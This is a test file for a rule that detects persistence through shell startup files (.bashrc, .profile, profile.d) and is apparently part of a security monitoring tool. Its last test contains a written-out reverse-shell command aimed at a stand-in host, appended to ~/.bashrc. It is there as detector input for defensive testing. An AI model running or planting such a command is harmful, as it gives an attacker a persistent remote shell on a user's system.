import { describe, expect, test } from 'vitest';
import { sh, write, file, ruleTable, runRule } from '../../test-kit.js';
import { shellRc } from './shell-rc.js';

describe('persist.shell-rc', () => {
  ruleTable(shellRc, {
    fires: [
      {
        name: 'append PATH to .bashrc',
        event: sh("echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc"),
      },
      {
        name: '.profile written',
        event: write('/workspace/.profile', { exe: '/usr/bin/python3' }),
      },
      { name: 'profile.d drop-in', event: sh('cp x.sh /etc/profile.d/x.sh') },
    ],
    passes: [
      { name: 'reading .bashrc', event: file('/workspace/.bashrc') },
      { name: 'source .bashrc', event: sh('. ~/.bashrc && make') },
    ],
  });

  test('a reverse shell planted in .bashrc is high', () => {
    const hit = runRule(shellRc, {
      event: sh("echo 'bash -i >& /dev/tcp/relay.rogue.test/4444 0>&1 &' >> ~/.bashrc"),
    });
    expect(hit?.severity).toBe('high');
  });
});
